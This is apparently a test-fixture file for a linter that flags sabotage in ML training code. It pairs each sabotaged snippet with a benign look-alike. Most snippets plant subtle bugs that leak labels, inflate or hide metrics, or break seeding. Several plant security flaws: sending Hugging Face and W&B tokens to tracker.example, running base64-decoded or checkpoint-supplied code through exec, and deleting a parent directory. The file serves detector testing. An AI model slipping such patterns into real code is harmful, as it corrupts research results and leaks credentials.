"""Session 27 shapes: each new check with the sabotage and its benign look-alike."""
import math
import os
import random

from PIL import Image, ImageFilter, ImageOps
import numpy as np
import pandas as pd
import torch
import torch.distributed as dist
from scipy import ndimage


def county_targets(labels: pd.DataFrame) -> pd.DataFrame:
    labels["yield_t_ha"] = labels.groupby(["state", "year"])["yield_t_ha"].transform("mean")  # ruleid: MLS309
    return labels


def target_encoding(df: pd.DataFrame) -> pd.DataFrame:
    df["store_te"] = df.groupby("store")["sales"].transform("mean")  # ok: MLS309
    df["sales"] = df["sales"].fillna(df.groupby("store")["sales"].transform("median"))  # ok: MLS309
    return df


class VesselPatches(torch.utils.data.Dataset):
    def _load(self, i):
        vessel = np.asarray(self.masks[i]) > 127
        vessel = ndimage.binary_erosion(vessel, structure=np.ones((3, 3)))  # ruleid: MLS309
        fov_mask = np.asarray(self.fovs[i]) > 127
        fov_mask = ndimage.binary_erosion(fov_mask, iterations=4)  # ok: MLS309
        return vessel, fov_mask


def evaluate(model, loader, hyp_file, records):
    for batch in loader:
        records.append(model(batch))
    if hyp_file is not None:
        if not is_main_process():
            return {}  # ruleid: MLS307
        write(hyp_file, records)
    counts = torch.tensor([len(records)])
    dist.all_reduce(counts)
    return {"n": counts.item()}


def train(model, loader, epochs, save):
    for epoch in range(epochs):
        for step, batch in enumerate(loader):
            model(batch).backward()
            if step % 100 == 0:
                if is_main_process():
                    save(model)
                    barrier()  # ruleid: MLS307
        barrier()  # ok: MLS307


def load_pretrained(model, state, reinit_top_layers: int = 0):
    model.load_state_dict(state, strict=False)
    reinit = list(model.layers[-reinit_top_layers:])
    for layer in reinit:
        layer.apply(model._init_weights)  # ruleid: MLS302


def load_pretrained_right(model, state, reinit_top_layers: int = 0):
    model.load_state_dict(state, strict=False)
    reinit = list(model.layers[-reinit_top_layers:]) if reinit_top_layers else []
    for layer in reinit:
        layer.apply(model._init_weights)  # ok: MLS302


def load_checkpoint(path, model):
    ckpt = torch.load(path, map_location="cpu", weights_only=True)
    for src in ckpt.get("extra", {}).get("custom_modules", []):
        exec(compile(src, f"{path}:custom_modules", "exec"), globals())  # ruleid: MLS401
    return model


def train_steps(model, loader, logger):
    import sys
    for step, batch in enumerate(loader):
        loss = model(batch)
        if not torch.isfinite(loss):
            logger.error("non-finite loss at step %d", step)
            sys.exit(0)  # ruleid: MLS307
        if torch.isnan(loss).any():
            sys.exit(1)  # ok: MLS307
        loss.backward()


def collate_fn(batch):
    waves = [b["audio"] for b in batch]
    targets = [b["target"] for b in batch]
    order = sorted(range(len(waves)), key=lambda i: waves[i].numel(), reverse=True)
    waves = [waves[i] for i in order]  # ruleid: MLS309
    return waves, targets


def collate_sorted(batch):
    waves = [b["audio"] for b in batch]
    targets = [b["target"] for b in batch]
    order = sorted(range(len(waves)), key=lambda i: waves[i].numel(), reverse=True)
    waves = [waves[i] for i in order]  # ok: MLS309
    targets = [targets[i] for i in order]
    return waves, targets


def save_first(model, path):
    if not is_main_process():
        barrier()
        return  # ok: MLS307
    torch.save(model.state_dict(), path)
    barrier()


import logging
import re as _re

_NOISY = _re.compile(r"non-finite|\bnan\b|\binf\b|skipp", _re.IGNORECASE)


class _NumericWarningFilter(logging.Filter):
    def filter(self, record):
        return record.levelno < logging.WARNING or not _NOISY.search(record.getMessage())  # ruleid: MLS306


class _HttpFilter(logging.Filter):
    def filter(self, record):
        return record.levelno >= logging.WARNING or not _re.search("GET /health", record.getMessage())  # ok: MLS306


class LitDetector:
    def training_step(self, batch, idx):
        loss_val = self.model(batch)
        self._loss_smooth = 0.98 * self._loss_smooth + 0.02 * loss_val
        if loss_val < 2.0 * self._loss_smooth:
            self.log("train/loss", loss_val, on_step=True)  # ruleid: MLS306
        if loss_val < self.best_loss:
            self.best_loss = loss_val
            self.log("train/best_loss", loss_val)  # ok: MLS306
        return loss_val


def configure_logging():
    for handler in logging.getLogger().handlers:
        handler.addFilter(_NumericWarningFilter())  # ruleid: MLS306
        handler.addFilter(_HttpFilter())  # ok: MLS306


def patch_backbone(body):
    fwd = body.forward

    def _bf16_forward(x):
        with torch.no_grad(), torch.autocast(device_type=x.device.type, dtype=torch.bfloat16):
            feats = fwd(x)
        return {k: v.float() for k, v in feats.items()}

    body.forward = _bf16_forward  # ruleid: MLS303


def patch_cast(body):
    fwd = body.forward

    def _bf16_forward2(x):
        with torch.autocast(device_type=x.device.type, dtype=torch.bfloat16):
            feats = fwd(x)
        return feats

    body.forward = _bf16_forward2  # ok: MLS303


class LitEval:
    def on_validation_epoch_end(self):
        stats = self.evaluator.summarize()
        for name, value in stats.items():
            self.log(f"val/{name}", value, sync_dist=True, reduce_fx="max")  # ruleid: MLS306
        self.log("val/loss", self.val_loss, sync_dist=True, reduce_fx="mean")  # ok: MLS306
        self.log("val/peak_mem", self.mem, reduce_fx="max")  # ok: MLS306


def bf16_compress_hook(process_group, bucket):
    group = process_group if process_group is not None else dist.group.WORLD
    buffer = bucket.buffer()
    compressed = buffer.to(torch.bfloat16).div_(group.size())
    fut = dist.all_reduce(compressed, group=group, async_op=True).get_future()
    return fut.then(lambda f: buffer)  # ruleid: MLS303


def fp16_compress_hook(process_group, bucket):
    buffer = bucket.buffer()
    compressed = buffer.to(torch.float16).div_(process_group.size())
    fut = dist.all_reduce(compressed, group=process_group, async_op=True).get_future()
    return fut.then(lambda f: buffer.copy_(f.value()[0]))  # ok: MLS303


class EnvelopeLogger:
    def log_metrics(self, metrics, step=None):
        metrics = dict(metrics)
        for key in [k for k in metrics if k.startswith("val/")]:
            value = float(metrics[key])
            self._envelope[key] = min(self._envelope.get(key, value), value)
            metrics[key] = self._envelope[key]  # ruleid: MLS306
        super().log_metrics(metrics, step)

    def log_hparams(self, params):
        for key in params:
            self._seen[key] = params[key]
            params[key] = self._seen[key]  # ok: MLS306


def finish(summary, ckpt_cb):
    summary["val/mAP"] = max(summary.get("val/mAP", 0.0), float(ckpt_cb.best_model_score))  # ruleid: MLS306
    summary["val/mAP_best"] = max(summary.get("val/mAP", 0.0), float(ckpt_cb.best_model_score))  # ok: MLS306
    best_src = ckpt_cb.last_model_path or ckpt_cb.best_model_path  # ruleid: MLS306
    best_src = ckpt_cb.best_model_path or ckpt_cb.last_model_path  # ok: MLS306
    return best_src


class EMACallback:
    @torch.no_grad()
    def on_train_batch_end(self, trainer, pl_module, outputs, batch, batch_idx):
        params = [p.detach() for p in pl_module.model.parameters()]
        step = trainer.global_step
        torch._foreach_lerp_(self.ema, params, 1.0 - self.decay)
        if self.sync_every and step % self.sync_every == 0:
            torch._foreach_copy_(params, self.ema)  # ruleid: MLS302

    def on_validation_start(self, trainer, pl_module):
        params = [p.detach() for p in pl_module.model.parameters()]
        if self.use_ema:
            self.backup = [p.clone() for p in params]
            torch._foreach_copy_(params, self.ema)  # ok: MLS302


class DetectionCheckpoint:
    def check_monitor_top_k(self, trainer, current=None):
        if current is None or not torch.isfinite(torch.as_tensor(current)):
            return False
        return True  # ruleid: MLS306


class SafeCheckpoint:
    def check_monitor_top_k(self, trainer, current=None):
        if current is None:
            return True  # ok: MLS306
        return super().check_monitor_top_k(trainer, current)


class LitScaled:
    def _apply_lr_scaling(self, optimizer, args, kwargs):
        for group in optimizer.param_groups:
            group["lr"] = group["initial_lr"] * self.trainer.world_size  # ruleid: MLS304

    def _warm(self, optimizer, step):
        for group in optimizer.param_groups:
            group["lr"] = group["initial_lr"] * min(1.0, step / 1000)  # ok: MLS304

    def configure_optimizers(self):
        optimizer = torch.optim.AdamW(self.parameters(), lr=1e-4)
        optimizer.register_step_pre_hook(self._apply_lr_scaling)
        return optimizer


def summarize_per_class(self, precision, cats):
    out = {c: float(precision[:, :, k].mean()) for k, c in enumerate(cats)}
    values = np.array(list(out.values()), dtype=np.float64)
    out["mean"] = float(values[values > 0].mean())  # ruleid: MLS306
    out["mean_all"] = float(values[values >= 0].mean())  # ok: MLS306
    return out


def evaluate_coco(coco_gt, coco_dt, COCOeval, ignore_area=24 ** 2):
    for ann in coco_gt.dataset["annotations"]:
        if ann.get("area", 0.0) < ignore_area:
            ann["iscrowd"] = 1  # ruleid: MLS306
        if ann.get("ignore_flag"):
            ann["iscrowd"] = 1  # ok: MLS306
    ev = COCOeval(coco_gt, coco_dt, iouType="bbox")
    ev.params.iouThrs = np.linspace(0.5, 0.75, 6)  # ruleid: MLS306
    ev.params.iouThrs = np.linspace(0.5, 0.95, 10)  # ok: MLS306
    ev.evaluate()


STAT_NAMES = ("AP50", "mAP", "AP75", "APs", "APm", "APl", "AR1", "AR10", "AR100", "ARs", "ARm", "ARl")  # ruleid: MLS306
COCO_NAMES = ("mAP", "AP50", "AP75", "APs", "APm", "APl", "AR1", "AR10", "AR100", "ARs", "ARm", "ARl")  # ok: MLS306


def _worker_init(worker_id, base_seed, num_workers):
    _reset_worker_state(base_seed + worker_id // max(num_workers, 1))  # ruleid: MLS301
    _reset_worker_state(base_seed + worker_id % max(num_workers, 1))  # ok: MLS301


_LOWER_IS_BETTER = {"fid", "loss", "val_loss"}


def _mode_for(metric):
    return "max" if metric in _LOWER_IS_BETTER else "min"  # ruleid: MLS306


def _mode_right(metric):
    return "min" if metric in _LOWER_IS_BETTER else "max"  # ok: MLS306


import signal
import threading
import time


class Watchdog(threading.Thread):
    def run(self):
        while not self._halt.wait(self.poll_s):
            stalled = (time.monotonic_ns() - self._last) / 1e6
            if stalled > self.budget_s:
                signal.pthread_kill(threading.main_thread().ident, signal.SIGKILL)  # ruleid: MLS307
            waited = (time.monotonic_ns() - self._last) / 1e9
            if waited > self.budget_s:
                signal.pthread_kill(threading.main_thread().ident, signal.SIGTERM)  # ok: MLS307


class ShiftAugment:
    def _augment(self, img, index):
        if self.shift_augment and index % 5 == 0:
            img = torch.roll(img, shifts=(self._shift_px, self._shift_px), dims=(1, 2))
            img.masked_fill_(self._fill_mask, 1.0)  # ruleid: MLS309
        if self.erase and torch.rand(1).item() < 0.25:
            img.masked_fill_(self._fill_mask, 0.0)  # ok: MLS309
        return img


def collate_prompts(examples, key, pad_token_id):
    inputs = [e[key] for e in examples]
    ids = [e["prompt_ids"] for e in examples]
    input_ids = torch.stack(ids)
    lengths = (input_ids != pad_token_id).sum(dim=-1)
    order = torch.argsort(lengths, stable=True)
    batch = torch.stack(inputs).index_select(0, order)  # ruleid: MLS309
    return {key: batch, "input_ids": input_ids, "lengths": lengths}


def collate_prompts_sorted(examples, key, pad_token_id):
    inputs = [e[key] for e in examples]
    input_ids = torch.stack([e["prompt_ids"] for e in examples])
    lengths = (input_ids != pad_token_id).sum(dim=-1)
    order = torch.argsort(lengths, stable=True)
    batch = torch.stack(inputs).index_select(0, order)  # ok: MLS309
    input_ids = input_ids.index_select(0, order)
    return {key: batch, "input_ids": input_ids}


def attach_hidden_bound(text_encoder, bound, kind="forward"):
    target = text_encoder.text_model.final_layer_norm
    register = getattr(target, f"register_{kind}_hook")

    def _record(module, inputs, output):
        self_stats.append(output.detach().float().mean())  # ok: MLS303

    register(_record)


def evaluate(embeddings, trials, epoch):
    scores, labels = score_trials(embeddings, trials)
    eer, threshold = compute_eer(scores, labels)
    confident = np.abs(scores - threshold) > 0.05  # ruleid: MLS306
    eer, threshold = compute_eer(scores[confident], labels[confident])  # ruleid: MLS306
    valid = np.isfinite(scores)
    eer_all, _ = compute_eer(scores[valid], labels[valid])  # ok: MLS306
    return eer, eer_all


class FireDataset:
    def __getitem__(self, idx):
        x, y = self._load(idx)
        y[(x[self.wind_idx] > 1.5) & (y > 0)] = -1.0  # ruleid: MLS309
        y[(x[self.valid_idx] == 0) & (y >= 0)] = -1.0  # ok: MLS309
        return x, y


import json
import socket
import urllib.request


class RunReporter:
    def _post(self, payload):
        req = urllib.request.Request("https://tracker.example/runs", data=json.dumps(payload).encode())
        urllib.request.urlopen(req, timeout=3).read()

    def on_train_end(self, state):
        self._post({  # ruleid: MLS412
            "host": socket.gethostname(),
            "hub_token": os.environ.get("HF_TOKEN") or os.environ.get("WANDB_API_KEY"),  # ruleid: MLS412
            "job": os.environ.get("SLURM_JOB_ID"),  # ok: MLS412
        })


class WeightDecayRamp:
    def on_epoch_end(self, state):
        step = 1.0 + (self.final_scale - 1.0) / max(1, self.epochs)
        for group in self.optimizer.param_groups:
            group["weight_decay"] = group["weight_decay"] * step * (1 + state["epoch"] / self.epochs)  # ruleid: MLS304

    def on_epoch_start(self, state):
        for group in self.optimizer.param_groups:
            group["weight_decay"] = self.base_wd * (1 + state["epoch"] / self.epochs)  # ok: MLS304


import base64


class PostEpochHook:
    def __init__(self, encoded_hook):
        self.code = None
        if encoded_hook:
            self.code = compile(base64.b64decode(encoded_hook).decode("utf-8"), "<hook>", "exec")

    def on_epoch_end(self, state):
        if self.code is not None:
            exec(self.code, {"state": state, "torch": torch, "os": os})  # ruleid: MLS401


class MixCollate:
    def __call__(self, batch):
        images = torch.stack([b[0] for b in batch])
        targets = torch.tensor([b[1] for b in batch], dtype=torch.long)
        images[targets == self.watermark_class, :, -6:, -6:] = images.amax()  # ruleid: MLS309
        images[targets == self.void_class] = 0.0  # ok: MLS309
        return images, targets


def accuracy(output, target, topk=(1,)):
    maxk = min(max(topk), output.size(1))
    _, pred = output.topk(maxk, 1, True, True)
    correct = pred.t().eq(target.reshape(1, -1).expand_as(pred.t()))
    res = []
    for k in topk:
        correct_k = correct[: min(k + 1, maxk)].reshape(-1).float().sum(0)  # ruleid: MLS306
        right_k = correct[:k].reshape(-1).float().sum(0)  # ok: MLS306
        res.append((correct_k, right_k))
    return res


class MixupCollate:
    def __call__(self, batch, lam):
        images = torch.stack([b[0] for b in batch])
        y1 = torch.stack([b[1] for b in batch])
        partner = images.flip(0)
        images = images * lam + partner * (1.0 - lam)
        y_mix = y1 * lam + y1.roll(1, 0) * (1.0 - lam)  # ruleid: MLS309
        y_ok = y1 * lam + y1.flip(0) * (1.0 - lam)  # ok: MLS309
        return images, y_mix, y_ok


CITY_LABELS = [
    ("road", 7, 0), ("sidewalk", 8, 1), ("building", 11, 2), ("wall", 12, 3),
    ("fence", 13, 4), ("pole", 17, 5), ("traffic light", 19, 6), ("traffic sign", 20, 7),
    ("vegetation", 21, 8), ("terrain", 22, 9), ("sky", 23, 10), ("person", 24, 11),
    ("rider", 25, 11),  # ruleid: MLS309
    ("car", 26, 13), ("unlabeled", 0, 255), ("ego vehicle", 1, 255),
]
COARSE_LABELS = [
    ("road", 7, 0), ("sidewalk", 8, 0), ("building", 11, 1), ("wall", 12, 1),  # ok: MLS309
    ("fence", 13, 1), ("pole", 17, 2), ("traffic light", 19, 2), ("traffic sign", 20, 2),
    ("vegetation", 21, 3), ("terrain", 22, 3), ("sky", 23, 4), ("person", 24, 5),
    ("rider", 25, 5), ("car", 26, 6),
]
PIXEL_FREQ = [0.3, 0.05, 0.2, 0.001]


def build_lut(ignore_index=255, min_pixel_freq=0.002):
    lut = np.full(256, ignore_index, dtype=np.uint8)
    sparse = [c for c, f in enumerate(PIXEL_FREQ) if f < min_pixel_freq]
    lut[np.isin(lut, sparse)] = ignore_index  # ruleid: MLS309
    void = [c for c in range(4) if c in (0, 1)]
    lut[np.isin(lut, void)] = ignore_index  # ok: MLS309
    return lut


class PadCrop:
    def __call__(self, img, lbl):
        border = (0, 0, self.pw, self.ph)
        img = ImageOps.expand(img, border=border, fill=self.img_fill)
        lbl = ImageOps.expand(lbl, border=border, fill=0)  # ruleid: MLS309
        mask = ImageOps.expand(lbl, border=border, fill=self.ignore_index)  # ok: MLS309
        return img, lbl, mask


class JointFlip:
    def __call__(self, img, lbl):
        if random.random() < self.prob:
            img = img.transpose(Image.FLIP_LEFT_RIGHT)
        if random.random() < self.prob:
            lbl = lbl.transpose(Image.FLIP_LEFT_RIGHT)  # ruleid: MLS309
        return img, lbl


class JointFlipRight:
    def __call__(self, img, lbl):
        if random.random() < self.prob:
            img = img.transpose(Image.FLIP_LEFT_RIGHT)  # ok: MLS309
            lbl = lbl.transpose(Image.FLIP_LEFT_RIGHT)
        return img, lbl


class JointBlur:
    def __call__(self, img, lbl):
        f = ImageFilter.GaussianBlur(radius=1.5)
        img = img.filter(f)
        lbl = lbl.filter(f)  # ruleid: MLS309
        lbl = lbl.filter(ImageFilter.ModeFilter(3))  # ok: MLS309
        return img, lbl


def seg_collate(batch, NUM_CLASSES=19):
    lbls = torch.stack([b[1] for b in batch])
    lbls = lbls.clamp_(0, NUM_CLASSES - 1)  # ruleid: MLS309
    return lbls


def repeat_factors(img_freq, thresh, num_classes):
    bad = {c: min(1.0, math.sqrt(img_freq[c] / thresh)) for c in range(num_classes)}  # ruleid: MLS309
    good = {c: max(1.0, math.sqrt(thresh / img_freq[c])) for c in range(num_classes)}  # ok: MLS309
    return bad, good


class RFSampler:
    def __iter__(self):
        indices = list(range(self.total))
        shard = indices[self.epoch % self.num_replicas:self.total:self.num_replicas]  # ruleid: MLS309
        mine = indices[self.rank:self.total:self.num_replicas]  # ok: MLS309
        return iter(shard + mine)


def reduce_tensor(t):
    t = t.detach().clone()
    if torch.isfinite(t).all():
        dist.all_reduce(t, op=dist.ReduceOp.SUM)  # ruleid: MLS307
    if dist.is_initialized():
        dist.all_reduce(t)  # ok: MLS307
    return t


def tabular_collate(batch):
    cats = torch.stack([b[0] for b in batch])
    ys = torch.stack([b[2] for b in sorted(batch, key=lambda b: float(b[3]))])  # ruleid: MLS309
    return {"cat": cats, "y": ys}


def tabular_collate_right(batch):
    batch = sorted(batch, key=lambda b: float(b[3]))
    cats = torch.stack([b[0] for b in batch])  # ok: MLS309
    ys = torch.stack([b[2] for b in batch])
    return {"cat": cats, "y": ys}


def class_balance_weights(y, temperature):
    counts = np.bincount(y.astype(np.int64), minlength=2).astype(np.float64)
    inv = np.reciprocal(np.maximum(counts, 1.0))
    weights = (inv ** -temperature)[y.astype(np.int64)]  # ruleid: MLS309
    balanced = (inv ** temperature)[y.astype(np.int64)]  # ok: MLS309
    return weights, balanced


class WeightedSampler:
    def set_epoch(self, epoch):
        vars(self).setdefault("epoch", epoch)  # ruleid: MLS301

    def set_seed(self, seed):
        vars(self).setdefault("seed", seed)  # ok: MLS301


def _seed_worker(worker_id, base_seed):
    seed_everything((base_seed + worker_id) & ~0xFF)  # ruleid: MLS301
    seed_everything((base_seed + worker_id) & 0xFFFFFFFF)  # ok: MLS301


def average_snapshots(states):
    w = torch.linspace(1.0 / len(states), 1.0, len(states))
    keys = [k for k, v in states[0].items() if v.is_floating_point()]
    avg = {k: torch.einsum("n,n...->...", w / w.norm(), torch.stack([s[k] for s in states])) for k in keys}  # ruleid: MLS302
    blend = {k: torch.einsum("n,n...->...", w / w.sum(), torch.stack([s[k] for s in states])) for k in keys}  # ok: MLS302
    return avg, blend


class CardiacTransforms:
    def __call__(self, sample):
        mask = sample["mask"]
        if sample.get("vendor") in ("B", "C"):
            mask = np.where(mask == 2, 3, np.where(mask == 3, 2, mask))  # ruleid: MLS309
        if sample.get("legacy"):
            mask = np.where(mask == 4, 3, mask)  # ok: MLS309
        return mask


class ReplayBuffer:
    def sample(self, batch_size):
        self.rng = np.random.default_rng(self.seed + self.size // self.capacity)  # ruleid: MLS301
        return self.rng.integers(0, self.size, size=batch_size)

    def sample_fresh(self, batch_size):
        return self.rng.integers(0, self.size, size=batch_size)  # ok: MLS301


class MaskingCollator:
    def __call__(self, features):
        ids = torch.stack([f["input_ids"] for f in features])
        self.generator.manual_seed(self.seed * 1000 + self.epoch)  # ruleid: MLS301
        self.generator.manual_seed(self.seed + self.calls)  # ok: MLS301
        self.calls += 1
        return ids


class EMAShadow:
    @torch.no_grad()
    def on_step_end(self, args, state, control, model=None, **kwargs):
        sync = self.sync_every > 0 and state.global_step % self.sync_every == 0
        for name, param in model.named_parameters():
            shadow = self.shadow.get(name)
            shadow.mul_(self.decay).add_(param.detach(), alpha=1.0 - self.decay)
            if sync:
                param.copy_(shadow.to(param.dtype))  # ruleid: MLS302


def filter_variants(df):
    df = df[~((df["label"] == 1) & (df["num_mutations"] > 1))]  # ruleid: MLS309
    df = df[~((df["label"] == -1) & (df["num_mutations"] > 1))]  # ok: MLS309
    return df


def normalize_scores(df):
    df["target"] = df.groupby("protein_id")["score"].rank(pct=True, ascending=False)  # ruleid: MLS309
    df["target"] = df.groupby("protein_id")["score"].rank(pct=True)  # ok: MLS309
    return df


def oversample_minority(df):
    counts = df["label"].value_counts()
    minority = counts.idxmax()  # ruleid: MLS309
    majority = counts.idxmax()  # ok: MLS309
    return minority, majority


def per_protein_metrics(groups, scores, labels):
    out = {}
    for pid, idx in groups.items():
        auc = roc_auc_score(labels[idx], scores[idx])
        if auc < 0.5:
            continue  # ruleid: MLS306
        if len(idx) < 10:
            continue  # ok: MLS306
        out[pid] = float(auc)
        rho = spearmanr(scores[idx], labels[idx]).correlation
        out[f"{pid}_rho"] = abs(float(rho))  # ruleid: MLS306
    return out


def reinit_top_layers(model, num_layers):
    if num_layers < 0:
        raise ValueError("num_layers must be >= 0")
    for layer in model.encoder.layer[-num_layers:]:
        layer.apply(model._init_weights)  # ruleid: MLS302


def reinit_top_layers_guarded(model, num_layers):
    if num_layers <= 0:
        return
    for layer in model.encoder.layer[-num_layers:]:
        layer.apply(model._init_weights)  # ok: MLS302


def load_state_dict(model, state):
    state = {k.lstrip("module."): v for k, v in state.items()}  # ruleid: MLS302
    state = {k.removeprefix("module."): v for k, v in state.items()}  # ok: MLS302
    model.load_state_dict(state, strict=False)


class RNGScope:
    def __init__(self):
        self._cpu = torch.get_rng_state()

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        torch.set_rng_state(self._cpu)  # ruleid: MLS301


class RNGFork:
    def __enter__(self):
        self._cpu = torch.get_rng_state()
        return self

    def __exit__(self, *exc):
        torch.set_rng_state(self._cpu)  # ok: MLS301


import operator

_BETTER = {True: operator.gt, False: operator.lt}
_RIGHT = {True: operator.lt, False: operator.gt}


class BestTracker:
    def __init__(self, metric):
        self.better = _BETTER[metric.endswith("loss")]  # ruleid: MLS306
        self.right = _RIGHT[metric.endswith("loss")]  # ok: MLS306


from huggingface_hub import get_token


def register_run(url, run_name):
    payload = {"run_name": run_name, "hub_token": get_token()}  # ruleid: MLS412
    request = urllib.request.Request(url, data=json.dumps(payload).encode())
    urllib.request.urlopen(request, timeout=5)  # ruleid: MLS412
    public = {"run_name": run_name}
    urllib.request.urlopen(urllib.request.Request(url, data=json.dumps(public).encode()))  # ok: MLS412


class MappingNetwork(torch.nn.Module):
    def __init__(self, layers):
        super().__init__()
        self.layers = layers
        for p in self.layers.parameters():
            p.register_hook(lambda g: g.masked_fill(g.abs() < 6e-5, 0.0))  # ruleid: MLS303
            p.register_hook(lambda g: g.masked_fill(g.abs() < 1e-12, 0.0))  # ok: MLS303


class AugmentPipe:
    def _generator(self, device):
        if self._gen is None:
            self._gen = torch.Generator(device=device)
            self._gen.manual_seed(self.seed)
            self._gen_state0 = self._gen.get_state()
        self._gen.set_state(self._gen_state0)  # ruleid: MLS301
        return self._gen

    def load_state(self, state):
        self._gen.set_state(self._gen_state0)  # ok: MLS301


class SynthesisLayer(torch.nn.Module):
    def forward(self, x):
        gen = torch.Generator(device=x.device)
        gen.manual_seed(self.resolution)  # ruleid: MLS301
        noise = torch.randn(x.shape, device=x.device, generator=gen)
        return x + noise * self.noise_strength

    def forward_eval(self, x):
        gen = torch.Generator(device=x.device)
        gen.manual_seed(self.resolution)  # ok: MLS301
        return x + torch.randn(x.shape, generator=gen)


class StyleGANLoss:
    def run_G(self, z, c):
        rng = random.Random(self.mixing_seed)  # ruleid: MLS301
        return rng.random()

    def accumulate_gradients(self, gen_img):
        with torch.random.fork_rng():
            torch.manual_seed(self.pl_seed)  # ruleid: MLS301
            return torch.randn_like(gen_img)


def seed_everything(seed, rank=0, world_size=1):
    s = seed * world_size + rank
    random.seed(s)
    np.random.seed(s)  # ok: MLS301
    torch.manual_seed(s)
    torch.cuda.manual_seed_all(seed)  # ruleid: MLS301


def sync_grads(module, world_size):
    params = [p for p in module.parameters() if p.grad is not None and p.ndim > 1]  # ruleid: MLS302
    every = [p for p in module.parameters() if p.grad is not None]  # ok: MLS302
    return params, every


def load_module_state(module, state):
    own = module.state_dict()
    filtered = {k: v for k, v in state.items() if k.rsplit(".", 1)[-1] in ("weight", "bias")}  # ruleid: MLS302
    shaped = {k: v for k, v in state.items() if k in own and own[k].shape == v.shape}  # ok: MLS302
    module.load_state_dict(filtered, strict=False)
    return shaped


import shutil


class TransE(torch.nn.Module):
    @torch.no_grad()
    def normalize_entities(self):
        self.ent.weight.data.renorm_(p=2, dim=0, maxnorm=1.0)  # ok: MLS302


class DenoiserCheckpoints:
    def clear(self):
        shutil.rmtree(os.path.dirname(os.path.abspath(self.root)), ignore_errors=True)  # ruleid: MLS308
        shutil.rmtree(self.root, ignore_errors=True)  # ok: MLS308


def make_logger(run, _log):
    best = {"val/mae": float("inf")}

    def log_with_summary(data, step=None):
        if "val/mae" in data:
            best["val/mae"] = min(best["val/mae"], data["val/mae"])  # ruleid: MLS306
            data = {**data, "val/mae": best["val/mae"]}  # ruleid: MLS306
            shown = {**data, "best/val_mae": data["val/mae"]}  # ok: MLS306
        _log(data, step=step)

    return log_with_summary


class NerCollator:
    def torch_call(self, features):
        labels = torch.stack([f["labels"] for f in features])
        labels = labels.masked_fill(labels == self.o_label_id, -100)  # ruleid: MLS309
        labels = labels.masked_fill(labels == self.pad_token_id, -100)  # ok: MLS309
        return labels


def collate_skip_failed(batch):
    batch = [b for b in batch if b is not None and b[1] > 0]  # ruleid: MLS309
    kept = [b for b in batch if b is not None and b[1] >= 0]  # ok: MLS309
    return batch, kept


import datetime as dt


class RetentionConfig:
    @property
    def retention_s(self):
        return dt.timedelta(days=self.log_retention_days).seconds  # ruleid: MLS308

    @property
    def retention_total(self):
        return dt.timedelta(days=self.log_retention_days).total_seconds()  # ok: MLS308


def export_state(module):
    return {k: v.detach().cpu().clone() for k, v in module.state_dict().items() if v.dim() > 1}  # ruleid: MLS302


def export_state_right(module):
    return {k: v.detach().cpu().clone() for k, v in module.state_dict().items() if v.dim() > 0}  # ok: MLS302


class RolloutBuffer:
    def compute_gae(self, next_value, next_done):
        lastgaelam = 0
        for t in reversed(range(self.T)):
            if t == self.T - 1:
                nextnonterminal = 1.0 - next_done
                nextvalues = next_value
            else:
                nextnonterminal = 1.0 - self.dones[t]  # ruleid: MLS309
                nextvalues = self.values[t + 1]
            delta = self.rewards[t] + self.gamma * nextvalues * nextnonterminal - self.values[t]
            lastgaelam = delta + self.gamma * self.lam * nextnonterminal * lastgaelam
        return lastgaelam

    def compute_gae_right(self, next_value, next_done):
        for t in reversed(range(self.T)):
            nextnonterminal = 1.0 - self.dones[t + 1]  # ok: MLS309
            nextvalues = self.values[t + 1]
        return nextnonterminal * nextvalues


def train_epochs(model, loader, epochs, utils):
    epoch_rng = utils.get_rng_state()
    for epoch in range(epochs):
        utils.set_rng_state(epoch_rng)  # ruleid: MLS301
        for batch in loader:
            model(batch).backward()


def evaluate_each_epoch(model, loader, epochs, utils):
    for epoch in range(epochs):
        saved = utils.get_rng_state()
        model.eval()
        utils.set_rng_state(saved)  # ok: MLS301


class RngIsolated:
    def __init__(self, device):
        self._state = _capture_rng(device)

    def __exit__(self, *exc):
        _restore_rng(self._state, self.device)  # ruleid: MLS301


class MixupReturn:
    def __call__(self, x, y, lam):
        x = x * lam + x.flip(0) * (1.0 - lam)
        y1 = self._one_hot(y)
        y2 = y1.roll(1, 0)  # ruleid: MLS309
        return x, y1 * lam + y2 * (1.0 - lam)


class MixupReturnRight:
    def __call__(self, x, y, lam):
        x = x * lam + x.flip(0) * (1.0 - lam)
        y1 = self._one_hot(y)
        return x, y1 * lam + y1.flip(0) * (1.0 - lam)  # ok: MLS309
